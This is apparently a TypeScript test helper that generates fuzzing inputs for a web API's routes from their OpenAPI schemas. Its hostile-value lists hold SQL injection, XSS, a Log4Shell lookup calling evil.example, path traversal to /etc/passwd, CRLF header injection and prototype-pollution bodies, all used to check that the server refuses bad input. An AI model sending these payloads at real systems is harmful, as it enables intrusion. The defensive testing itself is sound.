import { CARD_DATA_FIELDS, MAX_PAYMENT_CENTS } from '@vireo/shared';
import fc from 'fast-check';

/**
 * fast-check arbitraries for the input fuzzing (issue 8, quality-bars.md: "generated bad input (fast-check), every
 * route"). Everything is derived from a route's JSON Schema as the live OpenAPI document gives it (OpenAPI 3.0
 * dialect, generated from the zod schemas), so a new route is fuzzed without editing the test. Three parts:
 *
 * - `conforms`: an independent, deliberately lenient validator of that JSON Schema. It is the oracle: when it says a
 *   value violates the schema, the value certainly does, and the server must refuse the request. (It never calls a
 *   valid value invalid; where zod is stricter than the JSON Schema, e.g. `.trim().min(1)`, it says "valid" and the
 *   test asserts only "no 5xx".)
 * - arbitraries of valid values (with hostile but allowed content), of invalid values (wrong types, missing and
 *   unknown fields, out-of-range and non-integer numbers, invalid dates, over-long strings up to 1 MB, …) and of junk
 *   of any shape;
 * - `requestArbitrary`: whole requests (params, query, body, content type) of each kind, and `expectationFor`: what
 *   the server must answer to one.
 */

/** A JSON Schema node of the OpenAPI document (only the keywords the route schemas use). */
export type JsonSchema = {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  format?: string;
  enum?: unknown[];
  const?: unknown;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: boolean | number;
  exclusiveMaximum?: boolean | number;
  nullable?: boolean;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  default?: unknown;
};

/** Text written verbatim into a JSON body: numbers `JSON.stringify` cannot write (`1e999`, `-0`, `100.0`). */
export class RawJson {
  constructor(readonly text: string) {}
}

export type JsonLike = null | boolean | number | string | RawJson | JsonLike[] | { [key: string]: JsonLike };
type JsonObject = { [key: string]: JsonLike };

const hasOwn = (value: object, key: string) => Object.hasOwn(value, key);
const isObject = (value: unknown): value is Record<string, unknown> =>
  typeof value === 'object' && value !== null && !Array.isArray(value) && !(value instanceof RawJson);

/** An object whose keys are all own properties, `__proto__` included (assignment would set the prototype instead). */
export function ownObject(entries: [string, JsonLike][]): JsonObject {
  const object: JsonObject = {};
  for (const [key, value] of entries) {
    Object.defineProperty(object, key, { value, enumerable: true, writable: true, configurable: true });
  }
  return object;
}

function withKey(object: JsonObject, key: string, value: JsonLike): JsonObject {
  return ownObject([...Object.entries(object).filter(([k]) => k !== key), [key, value]]);
}

function withoutKey(object: JsonObject, key: string): JsonObject {
  return ownObject(Object.entries(object).filter(([k]) => k !== key));
}

/** JSON text for a generated value: own `__proto__` keys are kept and `RawJson` is written as it is. */
export function toJsonText(value: JsonLike): string {
  if (value instanceof RawJson) return value.text;
  if (Array.isArray(value)) return `[${value.map(toJsonText).join(',')}]`;
  if (isObject(value)) {
    return `{${Object.entries(value)
      .map(([key, child]) => `${JSON.stringify(key)}:${toJsonText(child as JsonLike)}`)
      .join(',')}}`;
  }
  return JSON.stringify(value) ?? 'null';
}

/** What the server reads back from UTF-8 (a lone surrogate becomes U+FFFD on the wire). */
export const asSent = (text: string) => Buffer.from(text, 'utf8').toString('utf8');

/** Percent-encodes every byte but the unreserved ones (`encodeURIComponent` throws on lone surrogates). */
export function encodeComponent(text: string, keep = ''): string {
  let out = '';
  for (const byte of Buffer.from(text, 'utf8')) {
    const char = String.fromCharCode(byte);
    out +=
      byte < 0x80 && (/[A-Za-z0-9\-_.~]/.test(char) || keep.includes(char))
        ? char
        : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

// ---------------------------------------------------------------------------------------------------------------
// The oracle
// ---------------------------------------------------------------------------------------------------------------

const typesOf = (schema: JsonSchema) => (schema.type === undefined ? [] : [schema.type].flat());

function inRange(schema: JsonSchema, n: number): boolean {
  const { minimum, maximum, exclusiveMinimum, exclusiveMaximum } = schema;
  if (typeof exclusiveMinimum === 'number' && !(n > exclusiveMinimum)) return false;
  if (typeof exclusiveMaximum === 'number' && !(n < exclusiveMaximum)) return false;
  if (minimum !== undefined && (exclusiveMinimum === true ? !(n > minimum) : n < minimum)) return false;
  if (maximum !== undefined && (exclusiveMaximum === true ? !(n < maximum) : n > maximum)) return false;
  return true;
}

function conformsType(schema: JsonSchema, type: string, value: unknown, coerce: boolean): boolean {
  switch (type) {
    case 'null':
      return value === null;
    case 'boolean':
      // a query string is coerced (z.coerce.boolean accepts any string)
      return typeof value === 'boolean' || (coerce && typeof value === 'string');
    case 'integer':
    case 'number': {
      // a query string or path parameter is coerced as z.coerce.number does: Number(text)
      const n = coerce && typeof value === 'string' ? Number(value) : value;
      if (typeof n !== 'number' || !Number.isFinite(n)) return false;
      if (type === 'integer' && !Number.isInteger(n)) return false;
      return inRange(schema, n);
    }
    case 'string': {
      if (typeof value !== 'string') return false;
      // lenient on length: zod counts UTF-16 units, JSON Schema code points; invalid only when both say so
      if (schema.maxLength !== undefined && [...value].length > schema.maxLength) return false;
      if (schema.minLength !== undefined && value.length < schema.minLength) return false;
      if (schema.pattern !== undefined && !new RegExp(schema.pattern).test(value)) return false;
      return true;
    }
    case 'array': {
      if (!Array.isArray(value)) return false;
      if (schema.minItems !== undefined && value.length < schema.minItems) return false;
      if (schema.maxItems !== undefined && value.length > schema.maxItems) return false;
      const items = schema.items;
      return items === undefined || value.every((item) => conforms(items, item, coerce));
    }
    case 'object': {
      if (!isObject(value)) return false;
      for (const key of schema.required ?? []) if (!hasOwn(value, key) || value[key] === undefined) return false;
      const properties = schema.properties ?? {};
      for (const [key, child] of Object.entries(value)) {
        if (hasOwn(properties, key)) {
          if (child !== undefined && !conforms(properties[key] as JsonSchema, child, coerce)) return false;
        } else if (schema.additionalProperties === false) return false;
        else if (isObject(schema.additionalProperties) && !conforms(schema.additionalProperties, child, coerce))
          return false;
      }
      return true;
    }
    default:
      return true;
  }
}

/** Whether `value` satisfies `schema` (lenient: see the module comment). `coerce` for query strings and path params. */
export function conforms(schema: JsonSchema, value: unknown, coerce = false): boolean {
  if (value === null && schema.nullable) return true;
  if (schema.anyOf && !schema.anyOf.some((branch) => conforms(branch, value, coerce))) return false;
  if (schema.oneOf && !schema.oneOf.some((branch) => conforms(branch, value, coerce))) return false;
  if (schema.allOf && !schema.allOf.every((branch) => conforms(branch, value, coerce))) return false;
  if (schema.enum && !schema.enum.some((option) => option === value)) return false;
  if (hasOwn(schema, 'const') && schema.const !== value) return false;
  const types = typesOf(schema);
  return types.length === 0 || types.some((type) => conformsType(schema, type, value, coerce));
}

/** Fastify refuses these JSON bodies before validation (secure-json-parse): `__proto__`, `constructor.prototype`. */
export function isPoisoned(value: unknown): boolean {
  const stack: unknown[] = [value];
  while (stack.length > 0) {
    const current = stack.pop();
    if (typeof current !== 'object' || current === null) continue;
    if (!Array.isArray(current)) {
      if (hasOwn(current, '__proto__')) return true;
      const ctor = (current as Record<string, unknown>).constructor;
      if (hasOwn(current, 'constructor') && isObject(ctor) && hasOwn(ctor, 'prototype')) return true;
    }
    stack.push(...Object.values(current));
  }
  return false;
}

// ---------------------------------------------------------------------------------------------------------------
// Hostile values
// ---------------------------------------------------------------------------------------------------------------

/** Strings that break parsers, logs, headers, databases and renderers. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\r\n',
  'x\r\nX-Injected: 1',
  'x\r\nSet-Cookie: vb_sid=evil; Path=/',
  '%0d%0aX-Injected:%201',
  '\uD800',
  'a\uDFFFb',
  '\uD83D',
  '😀',
  '👩‍👩‍👧‍👦',
  '\u202Eevil\u202C',
  'مرحبا بالعالم',
  'שלום',
  '𝕳𝖆𝖗𝖇𝖔𝖗',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
  '\uFEFF',
  '\u2028\u2029',
  '\u0007\u0008\u001b[31m',
  '\\',
  '"',
  "' OR '1'='1' --",
  '"; drop table users; --',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '//evil.example',
  'javascript:alert(1)',
  '__proto__',
  'constructor',
  'prototype',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '1e308',
  '12.345',
  'true',
  '[]',
  '{}',
  '%',
  '%zz',
  '%E0%A4%A',
];

/** Not a calendar date, or not `YYYY-MM-DD`. */
export const INVALID_DATES: readonly string[] = [
  '2026-02-30',
  '2026-02-29',
  '1900-02-29',
  '2100-02-29',
  '2026-13-01',
  '2026-00-10',
  '2026-04-31',
  '2026-12-32',
  '2026-1-1',
  '26-01-01',
  '2026/01/01',
  '01/02/2026',
  '11/21/2026',
  'yesterday',
  'today',
  'tomorrow',
  'now',
  '2026-01-01T00:00:00Z',
  '2026-01-01 ',
  ' 2026-01-01',
  '2026-01-01\r\n',
  '2026-01-01\u0000',
  '２０２６-01-01',
  '+2026-01-01',
  '-2026-01-01',
  '20260101',
  '2026-W01-1',
  '2026-001',
  '10000-01-01',
  '',
  '0',
  '1767225600000',
];

/** Calendar dates a schema accepts but a database or a business rule may not. */
export const EDGE_DATES: readonly string[] = [
  '0000-01-01',
  '0000-02-29',
  '0001-01-01',
  '1000-01-01',
  '1899-12-31',
  '1969-12-31',
  '1970-01-01',
  '2000-02-29',
  '2038-01-19',
  '9999-12-31',
];

/** Numbers a money or count field must refuse, as JSON writes them. */
const HOSTILE_NUMBERS: readonly JsonLike[] = [
  -1,
  0,
  new RawJson('-0'),
  0.5,
  12.345,
  99.999,
  1.005,
  -12.34,
  1e308,
  -1e308,
  new RawJson('1e999'),
  new RawJson('-1e999'),
  Number.MAX_SAFE_INTEGER + 1,
  2 ** 63,
  Number.MIN_SAFE_INTEGER - 1,
  new RawJson('12.3450000000000000001'),
  new RawJson('1'.repeat(400)),
  '12',
  '12.345',
  '-1',
  'NaN',
  'Infinity',
  '1e3',
  '0x10',
  '١٢',
  '12\u0000',
  true,
  null,
  [],
  {},
];

/** Text for a number in a query string or path that z.coerce.number must refuse (filtered by the oracle). */
const HOSTILE_NUMBER_TEXTS: readonly string[] = [
  '',
  ' ',
  'abc',
  '-1',
  '0',
  '1.5',
  '12.345',
  '101',
  '1e308',
  '-1e308',
  'NaN',
  'Infinity',
  '-Infinity',
  '9007199254740993',
  '1,5',
  '١٢',
  '1\u0000',
  '[]',
  '{}',
];

/** Fields a client must not be able to set (mass assignment), and prototype-pollution keys. */
export const UNKNOWN_FIELDS: readonly string[] = [
  'role',
  'accountId',
  'userId',
  'status',
  'isAdmin',
  'admin',
  'capabilities',
  'id',
  'createdAt',
  'deletedAt',
  'confirmationNumber',
  'channel',
  'isEnterprise',
  'amountDueCents',
];
export const PROTO_KEYS: readonly string[] = ['__proto__', 'constructor', 'prototype'];

/** A value for a pollution key that would show on `Object.prototype` if anything merged it. */
export const POLLUTION: JsonLike = ownObject([
  ['polluted', 'yes'],
  ['isAdmin', true],
]);

// ---------------------------------------------------------------------------------------------------------------
// Valid values (hostile content where the schema allows it)
// ---------------------------------------------------------------------------------------------------------------

/**
 * Values known to be good, by field name: the signed-in account's real ids (`statementId`, `paymentMethodId`, …) and
 * the test instruments (`cardNumber`, `expiry`, …). A valid value often takes one, so that a request gets past the
 * business rules to the code behind them (and hostile text in its other fields reaches the database).
 */
export type KnownIds = Record<string, readonly string[]>;

export type GenContext = {
  ids: KnownIds;
  /** Leave out real ids (a request that could succeed must not touch real data). */
  randomIdsOnly?: boolean;
  /** Free text is mostly hostile: whole hostile strings, or hostile strings inside ordinary text. */
  hostileText?: boolean;
};

const UUID_PATTERN_HINT = /0-9a-fA-F\]\{8\}/;
const isUuid = (schema: JsonSchema) =>
  schema.format === 'uuid' || (schema.pattern !== undefined && UUID_PATTERN_HINT.test(schema.pattern));
const isDate = (schema: JsonSchema) => schema.format === 'date';

const isoDay = (date: Date) => date.toISOString().slice(0, 10);
const calendarDate = fc
  .date({ min: new Date('1990-01-01T00:00:00Z'), max: new Date('2100-12-31T00:00:00Z'), noInvalidDate: true })
  .map(isoDay);

/** A keyset cursor as the server encodes it (base64url JSON [date, id, direction]), with hostile parts. */
const craftedCursor = fc
  .tuple(
    fc.oneof(calendarDate, fc.constantFrom(...EDGE_DATES, '2026-13-45', '0000-00-00', '9999-99-99')),
    fc.oneof(fc.uuid(), fc.constantFrom('-'.repeat(36), 'a'.repeat(36), `${'0'.repeat(35)}g`)),
    fc.constantFrom('o', 'n', 'x'),
  )
  .map((parts) => Buffer.from(JSON.stringify(parts)).toString('base64url'));

function stringUnits(): fc.Arbitrary<'grapheme' | 'binary' | 'grapheme-ascii' | 'binary-ascii'> {
  return fc.constantFrom('grapheme', 'binary', 'grapheme-ascii', 'binary-ascii');
}

function freeText(minLength: number, maxLength: number, mostlyHostile = false): fc.Arbitrary<string> {
  const fits = (s: string) => s.length >= minLength && [...s].length <= maxLength;
  const hostile = HOSTILE_STRINGS.filter(fits);
  // a grapheme may be several code points: keep what fits the schema's limits
  const random = stringUnits()
    .chain((unit) => fc.string({ unit, minLength, maxLength: Math.min(maxLength, 40) }))
    .filter(fits);
  if (hostile.length === 0) return random;
  if (!mostlyHostile) return fc.oneof(random, fc.constantFrom(...hostile));
  const embedded = fc
    .tuple(fc.string({ maxLength: 8 }), fc.constantFrom(...HOSTILE_STRINGS), fc.string({ maxLength: 8 }))
    .map((parts) => parts.join(''))
    .filter(fits);
  return fc.oneof(random, { weight: 3, arbitrary: fc.constantFrom(...hostile) }, { weight: 2, arbitrary: embedded });
}

function validString(schema: JsonSchema, ctx: GenContext, name: string): fc.Arbitrary<string> {
  if (schema.enum) return fc.constantFrom(...(schema.enum as string[]));
  const min = schema.minLength ?? 0;
  const max = schema.maxLength ?? 64;
  const known = ctx.randomIdsOnly ? [] : (ctx.ids[name] ?? []).filter((v) => v.length >= min && [...v].length <= max);
  if (known.length > 0) {
    return fc.oneof(
      { weight: 2, arbitrary: fc.constantFrom(...known) },
      validString(schema, { ...ctx, ids: {} }, name),
    );
  }
  if (isUuid(schema)) {
    return fc.oneof(
      fc.uuid(),
      fc.uuid().map((id) => id.toUpperCase()),
    );
  }
  if (isDate(schema)) return fc.oneof({ weight: 3, arbitrary: calendarDate }, fc.constantFrom(...EDGE_DATES));
  if (schema.pattern !== undefined) {
    // the pattern's own lengths hold unless the schema bounds them (64, the default above, would reject every value
    // of a longer pattern, and the filter would never end: issue 20's tracking token is 82-93 characters)
    const least = schema.minLength ?? 0;
    const most = schema.maxLength ?? Number.POSITIVE_INFINITY;
    return fc.stringMatching(new RegExp(schema.pattern)).filter((s) => s.length >= least && s.length <= most);
  }
  if (name === 'cursor') {
    return fc.oneof(
      craftedCursor.filter((s) => s.length <= max),
      freeText(min, max),
    );
  }
  return freeText(min, max, ctx.hostileText);
}

function numberBounds(schema: JsonSchema, integer: boolean): { min: number; max: number } {
  const step = integer ? 1 : Number.EPSILON;
  let min = typeof schema.exclusiveMinimum === 'number' ? schema.exclusiveMinimum + step : -(2 ** 31);
  let max = typeof schema.exclusiveMaximum === 'number' ? schema.exclusiveMaximum - step : 2 ** 31;
  if (schema.minimum !== undefined) min = schema.exclusiveMinimum === true ? schema.minimum + step : schema.minimum;
  if (schema.maximum !== undefined) max = schema.exclusiveMaximum === true ? schema.maximum - step : schema.maximum;
  return { min, max };
}

/** Values that satisfy `schema`; `name` is the field's name (known values and cursors are chosen by name). */
export function validArbitrary(schema: JsonSchema, ctx: GenContext, name = ''): fc.Arbitrary<JsonLike> {
  const base = validIgnoringNull(schema, ctx, name);
  return schema.nullable ? fc.oneof({ weight: 4, arbitrary: base }, fc.constant(null)) : base;
}

function validIgnoringNull(schema: JsonSchema, ctx: GenContext, name: string): fc.Arbitrary<JsonLike> {
  const branches = schema.anyOf ?? schema.oneOf;
  if (branches) return fc.oneof(...branches.map((branch) => validArbitrary(branch, ctx, name)));
  if (schema.enum) return fc.constantFrom(...(schema.enum as JsonLike[]));
  if (hasOwn(schema, 'const')) return fc.constant(schema.const as JsonLike);
  switch (typesOf(schema)[0]) {
    case 'string':
      return validString(schema, ctx, name);
    case 'integer':
    case 'number': {
      const integer = typesOf(schema)[0] === 'integer';
      const { min, max } = numberBounds(schema, integer);
      const known = (ctx.ids[name] ?? []).map(Number).filter((n) => Number.isFinite(n) && n >= min && n <= max);
      const any = integer
        ? fc.integer({ min: Math.max(min, Number.MIN_SAFE_INTEGER), max: Math.min(max, Number.MAX_SAFE_INTEGER) })
        : fc.double({ min, max, noNaN: true, noDefaultInfinity: true });
      const edges = fc.constantFrom(min, max, ...known);
      return known.length > 0
        ? fc.oneof(any, { weight: 2, arbitrary: fc.constantFrom(...known) }, edges)
        : fc.oneof({ weight: 4, arbitrary: any }, edges);
    }
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array': {
      const items = schema.items ?? {};
      const minLength = schema.minItems ?? 0;
      return fc.array(validArbitrary(items, ctx, name), {
        minLength,
        maxLength: Math.max(minLength, Math.min(schema.maxItems ?? 4, 4)),
      });
    }
    case 'object':
      return validObject(schema, ctx);
    default:
      return fc.jsonValue({ maxDepth: 2 }) as fc.Arbitrary<JsonLike>;
  }
}

function validObject(schema: JsonSchema, ctx: GenContext): fc.Arbitrary<JsonObject> {
  const properties = Object.entries(schema.properties ?? {});
  const required = new Set(schema.required ?? []);
  const parts = properties.map(([key, child]) =>
    required.has(key)
      ? validArbitrary(child, ctx, key).map((value) => [[key, value]] as [string, JsonLike][])
      : fc.option(
          validArbitrary(child, ctx, key).map((value) => [[key, value]] as [string, JsonLike][]),
          { nil: [] as [string, JsonLike][] },
        ),
  );
  return fc.tuple(...parts).map((entries) => ownObject(entries.flat()));
}

// ---------------------------------------------------------------------------------------------------------------
// Invalid values
// ---------------------------------------------------------------------------------------------------------------

const WRONG_TYPES: readonly JsonLike[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  '',
  'x',
  '42',
  'true',
  'null',
  [],
  [null],
  ['x'],
  {},
  ownObject([['a', 1]]),
  new RawJson('1e999'),
];

/** Over-long text: mostly just past the limit, sometimes about 1 MB (under and over Fastify's body limit). */
function tooLong(maxLength: number): fc.Arbitrary<string> {
  const filler = fc.constantFrom('x', 'é', '😀', '\u0000', '\r\n', 'ab\uD800');
  const length = fc.oneof(
    { weight: 20, arbitrary: fc.integer({ min: maxLength + 1, max: maxLength + 64 }) },
    { weight: 4, arbitrary: fc.constantFrom(4_096, 65_536) },
    { weight: 1, arbitrary: fc.constantFrom(1_000_000, 1_100_000) },
  );
  return fc.tuple(filler, length).map(([unit, n]) => unit.repeat(Math.ceil(n / [...unit].length)));
}

function invalidUuid(): fc.Arbitrary<string> {
  return fc.oneof(
    fc.constantFrom(
      '',
      'not-a-uuid',
      '00000000-0000-0000-0000-00000000000',
      '00000000-0000-0000-0000-0000000000000',
      'zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz',
      '-'.repeat(36),
      '12345678-1234-0234-8234-123456789012',
      '12345678-1234-4234-c234-123456789012',
      "' OR '1'='1",
      '../../etc/passwd',
      'null',
      '1',
    ),
    fc
      .tuple(
        fc.uuid(),
        fc.constantFrom(
          (id: string) => id.replace(/-/g, ''),
          (id: string) => id.slice(0, -1),
          (id: string) => `${id}a`,
          (id: string) => ` ${id}`,
          (id: string) => `${id}\u0000`,
          (id: string) => `${id}\r\n`,
          (id: string) => `{${id}}`,
          (id: string) => `urn:uuid:${id}`,
          (id: string) => `${id},${id}`,
        ),
      )
      .map(([id, mangle]) => mangle(id)),
    fc.constantFrom(...HOSTILE_STRINGS),
  );
}

function invalidString(schema: JsonSchema): fc.Arbitrary<JsonLike> {
  const options: fc.Arbitrary<JsonLike>[] = [tooLong(schema.maxLength ?? 4_096)];
  if ((schema.minLength ?? 0) > 0) options.push(fc.constant(''));
  if (isUuid(schema)) options.push(invalidUuid());
  else if (isDate(schema)) options.push(fc.constantFrom(...INVALID_DATES));
  else if (schema.pattern !== undefined) options.push(fc.string({ unit: 'binary', maxLength: 40 }));
  if (schema.enum) {
    const values = schema.enum.filter((v): v is string => typeof v === 'string');
    options.push(
      fc
        .tuple(
          fc.constantFrom(...values),
          fc.constantFrom(
            (v: string) => v.toUpperCase(),
            (v: string) => ` ${v}`,
            (v: string) => `${v} `,
            (v: string) => `${v}\u0000`,
            (v: string) => `${v}\r\n`,
            (v: string) => `${v}x`,
            (v: string) => v.slice(1),
          ),
        )
        .map(([value, mangle]) => mangle(value)),
      fc.constantFrom(...HOSTILE_STRINGS),
    );
  }
  return fc.oneof(...options);
}

function invalidNumber(schema: JsonSchema, integer: boolean): fc.Arbitrary<JsonLike> {
  const { min, max } = numberBounds(schema, integer);
  const edges: JsonLike[] = [];
  if (schema.minimum !== undefined || typeof schema.exclusiveMinimum === 'number') edges.push(min - 1, min - 0.5);
  if (schema.maximum !== undefined || typeof schema.exclusiveMaximum === 'number') edges.push(max + 1, max + 0.5);
  if (integer) edges.push(min + 0.001, 12.345);
  return fc.oneof(fc.constantFrom(...HOSTILE_NUMBERS), ...(edges.length > 0 ? [fc.constantFrom(...edges)] : []));
}

function invalidObject(schema: JsonSchema, ctx: GenContext): fc.Arbitrary<JsonLike> {
  const properties = Object.entries(schema.properties ?? {});
  const options: fc.Arbitrary<JsonLike>[] = [];
  const required = schema.required ?? [];
  if (required.length > 0) {
    options.push(
      fc.tuple(validObject(schema, ctx), fc.constantFrom(...required)).map(([object, key]) => withoutKey(object, key)),
    );
  }
  if (schema.additionalProperties === false) options.push(withUnknownField(schema, ctx));
  if (properties.length > 0) {
    options.push(
      fc
        .constantFrom(...properties)
        .chain(([key, child]) =>
          fc
            .tuple(validObject(schema, ctx), invalidArbitrary(child, ctx, key))
            .map(([object, bad]) => withKey(object, key, bad)),
        ),
    );
  }
  return options.length > 0 ? fc.oneof(...options) : fc.constantFrom(...WRONG_TYPES);
}

/**
 * Values that violate `schema` (mostly: a mutation of a union branch may still satisfy another branch, so callers
 * keep only what `conforms` refuses).
 */
export function invalidArbitrary(schema: JsonSchema, ctx: GenContext, name = ''): fc.Arbitrary<JsonLike> {
  const options: fc.Arbitrary<JsonLike>[] = [fc.constantFrom(...WRONG_TYPES)];
  const branches = schema.anyOf ?? schema.oneOf;
  if (branches) options.push(...branches.map((branch) => invalidArbitrary(branch, ctx, name)));
  switch (typesOf(schema)[0]) {
    case 'string':
      options.push(invalidString(schema));
      break;
    case 'integer':
    case 'number':
      options.push(invalidNumber(schema, typesOf(schema)[0] === 'integer'));
      break;
    case 'boolean':
      options.push(fc.constantFrom<JsonLike>('true', 'false', 1, 0, 'yes', false));
      break;
    case 'array': {
      const items = schema.items ?? {};
      const arrays: fc.Arbitrary<JsonLike>[] = [
        fc.array(invalidArbitrary(items, ctx, name), { minLength: 1, maxLength: 3 }),
      ];
      if ((schema.minItems ?? 0) > 0) arrays.push(fc.constant([]));
      if (schema.maxItems !== undefined) {
        arrays.push(fc.array(validArbitrary(items, ctx, name), { minLength: schema.maxItems + 1 }));
      }
      options.push(fc.oneof(...arrays));
      break;
    }
    case 'object':
      options.push(invalidObject(schema, ctx));
      break;
  }
  return fc.oneof(...options);
}

/** A valid object plus one field the schema does not declare, at the top or in a nested object. */
export function withUnknownField(schema: JsonSchema, ctx: GenContext): fc.Arbitrary<JsonObject> {
  const declared = new Set(Object.keys(schema.properties ?? {}));
  const key = fc
    .oneof(
      { weight: 6, arbitrary: fc.constantFrom(...UNKNOWN_FIELDS, ...PROTO_KEYS) },
      { weight: 1, arbitrary: fc.constantFrom(...CARD_DATA_FIELDS) },
      { weight: 1, arbitrary: fc.string({ minLength: 1, maxLength: 20 }) },
    )
    .filter((k) => !declared.has(k));
  const value = fc.oneof(
    fc.constantFrom<JsonLike>('PRIMARY', 'ADMIN', true, 1, null, POLLUTION, ownObject([['prototype', POLLUTION]])),
    fc.uuid(),
  );
  const nested = Object.entries(schema.properties ?? {}).filter(
    ([, child]) => typesOf(child)[0] === 'object' && child.additionalProperties === false,
  );
  return fc.tuple(validObject(schema, ctx), key, value).chain(([object, k, v]) => {
    const top = fc.constant(withKey(object, k, v));
    const inner = nested
      .filter(([name]) => isObject(object[name]))
      .map(([name, child]) => withUnknownField(child, ctx).map((bad) => withKey(object, name, bad) as JsonObject));
    return inner.length > 0 ? fc.oneof({ weight: 3, arbitrary: top }, ...inner) : top;
  });
}

// ---------------------------------------------------------------------------------------------------------------
// Junk of any shape
// ---------------------------------------------------------------------------------------------------------------

const DEEP = 5_000;

/** Bodies that are not JSON, barely JSON, or JSON built to hurt. */
export const RAW_BODIES: readonly string[] = [
  '',
  ' ',
  '{',
  '}',
  '[',
  '{"a":}',
  '{"a" 1}',
  "{'a':1}",
  '[1,]',
  '{"a":1,}',
  'NaN',
  'undefined',
  '\u0000',
  '\uFEFF{}',
  '{}garbage',
  '{"a":"\\ud800"}',
  '{"a":"\\u0000"}',
  'null',
  'true',
  '0',
  '"string"',
  '[]',
  '{"__proto__":{"polluted":"yes"}}',
  '{"a":{"__proto__":{"polluted":"yes"}}}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
  '[{"__proto__":{"polluted":"yes"}}]',
  '{"a":1,"a":2}',
  `${'['.repeat(DEEP)}${']'.repeat(DEEP)}`,
  `${'{"a":'.repeat(DEEP)}1${'}'.repeat(DEEP)}`,
  `{"a":${'1'.repeat(10_000)}}`,
  `{"a":"${'x'.repeat(1_100_000)}"}`,
];

/** Arbitrary JSON of any shape, with pollution keys and hostile strings mixed in. */
export const junkJson: fc.Arbitrary<JsonLike> = fc.oneof(
  { weight: 4, arbitrary: fc.jsonValue({ maxDepth: 4 }) as fc.Arbitrary<JsonLike> },
  {
    weight: 2,
    arbitrary: fc
      .array(
        fc.tuple(
          fc.oneof(fc.constantFrom(...UNKNOWN_FIELDS, ...PROTO_KEYS, ...CARD_DATA_FIELDS), fc.string()),
          fc.oneof(
            fc.constantFrom<JsonLike>(...HOSTILE_STRINGS, ...HOSTILE_NUMBERS, POLLUTION),
            fc.jsonValue({ maxDepth: 2 }) as fc.Arbitrary<JsonLike>,
          ),
        ),
        { maxLength: 6 },
      )
      .map(ownObject),
  },
  { weight: 1, arbitrary: fc.constantFrom<JsonLike>(...HOSTILE_STRINGS, ...HOSTILE_NUMBERS) },
);

/** Content types a client might send; only the first two are JSON for certain. */
export const JSON_CONTENT_TYPES = ['application/json', 'application/json; charset=utf-8'] as const;
export const NON_JSON_CONTENT_TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/octet-stream',
  'text/html',
  'image/png',
] as const;
/** A JSON parser may or may not take these: no assertion but "no 5xx" on what they carry. */
const DOUBTFUL_CONTENT_TYPES = [
  'APPLICATION/JSON',
  'application/json; charset=iso-8859-1',
  'application/json; charset=utf-16',
  'application/merge-patch+json',
  'application/jsonx',
  '*/*',
] as const;

// ---------------------------------------------------------------------------------------------------------------
// Whole requests
// ---------------------------------------------------------------------------------------------------------------

/** One route as the fuzzer sees it: its inputs as object schemas (parameters grouped by where they go). */
export type RouteShape = {
  method: string;
  url: string;
  params?: JsonSchema;
  query?: JsonSchema;
  body?: JsonSchema;
  /** The body's content types besides JSON that the route takes as they are (a file's bytes, issue 21 item 4). */
  rawTypes?: string[];
  /** Whether the route may change state (any method but GET/HEAD). */
  stateChanging: boolean;
};

export type FuzzKind = 'invalid' | 'unknown-field' | 'hostile' | 'domain' | 'junk';

export type FuzzCase = {
  kind: FuzzKind;
  /** Send only when the oracle says the server must refuse it (the property skips it otherwise). */
  onlyIfRefused?: boolean;
  params: Record<string, string>;
  query: [string, string][] | { raw: string };
  /** Absent: no body at all. */
  body?: { contentType: string | undefined; text: string };
};

type OpenApiParameter = { in: string; name: string; required?: boolean; schema?: JsonSchema };
export type OpenApiOperation = {
  parameters?: OpenApiParameter[];
  requestBody?: { content?: Record<string, { schema?: JsonSchema }> };
};

function parametersSchema(parameters: OpenApiParameter[], where: string): JsonSchema | undefined {
  const list = parameters.filter((p) => p.in === where);
  if (list.length === 0) return undefined;
  return {
    type: 'object',
    properties: Object.fromEntries(list.map((p) => [p.name, p.schema ?? {}])),
    required: list.filter((p) => p.required || where === 'path').map((p) => p.name),
  };
}

/** The route's inputs from its OpenAPI operation (none when the route is not documented). */
export function routeShape(method: string, url: string, operation: OpenApiOperation | undefined): RouteShape {
  const parameters = operation?.parameters ?? [];
  const body = operation?.requestBody?.content?.['application/json']?.schema;
  const rawTypes = Object.keys(operation?.requestBody?.content ?? {}).filter((type) => type !== 'application/json');
  const wildcard = url.includes('*') ? { type: 'object', properties: { '*': { type: 'string' } } } : undefined;
  return {
    method,
    url,
    params: parametersSchema(parameters, 'path') ?? wildcard,
    query: parametersSchema(parameters, 'query'),
    body,
    ...(rawTypes.length > 0 ? { rawTypes } : {}),
    stateChanging: method !== 'GET' && method !== 'HEAD',
  };
}

/** The path with each `:name` (and `*`) filled in, percent-encoded. */
export function concretePath(url: string, params: Record<string, string>): string {
  return url
    .replace(/:(\w+)/g, (_m, name: string) => encodeComponent(params[name] ?? ''))
    .replace('*', () => encodeComponent(params['*'] ?? '', '/'));
}

export function queryText(query: FuzzCase['query']): string {
  if (!Array.isArray(query)) return query.raw;
  return query.map(([key, value]) => `${encodeComponent(key)}=${encodeComponent(value)}`).join('&');
}

/** The query string as Fastify parses it: a repeated key becomes an array. */
function parsedQuery(pairs: [string, string][]): JsonObject {
  const entries = new Map<string, string[]>();
  for (const [key, value] of pairs) entries.set(asSent(key), [...(entries.get(asSent(key)) ?? []), asSent(value)]);
